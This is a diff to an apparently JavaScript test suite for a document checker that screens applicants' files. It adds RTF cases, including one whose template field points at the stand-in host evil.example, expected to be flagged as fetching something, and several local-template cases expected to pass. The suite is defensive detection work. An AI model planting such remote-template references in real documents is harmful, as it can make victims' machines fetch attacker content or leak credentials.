@@ -80,6 +80,13 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'fetches or sends something',
     ],
     [
+      'an RTF file with a template of another machine',
+      'rtf',
+      rtf('{\\*\\template //evil.example/a.dotm}'),
+      'RTF',
+      'fetches or sends something',
+    ],
+    [
       'an RTF file with a template from elsewhere, its letters written as numbers',
       'rtf',
       rtf("{\\*\\template \\u104?ttps://evil.example/a.dotm}{\\*\\template \\'68ttps://evil.example}"),
@@ -143,6 +150,16 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'an RTF file with templates of its writer',
       'rtf',
       rtf("{\\*\\template C:\\\\Users\\\\Ad\\'e9\\\\CV.dotx}{\\*\\template Normal.dotm}"),
+    ],
+    [
+      'an RTF file with templates of its writer on a Mac',
+      'rtf',
+      rtf('{\\*\\template Macintosh HD:Users:ada:Normal.dotm}{\\*\\template /Users/ada/Normal.dotm}'),
+    ],
+    [
+      'an RTF file with templates whose names have signs',
+      'rtf',
+      rtf("{\\*\\template Ada & Co.dotx}{\\*\\template Ada's CV.dotx}{\\*\\template Pr\\'e9.dotm}"),
     ],
     ['an RTF file with a picture', 'rtf', rtf('{\\pict\\pngblip 89504e47}')],
   ])('are taken: %s', async (_what, extension, content) => {
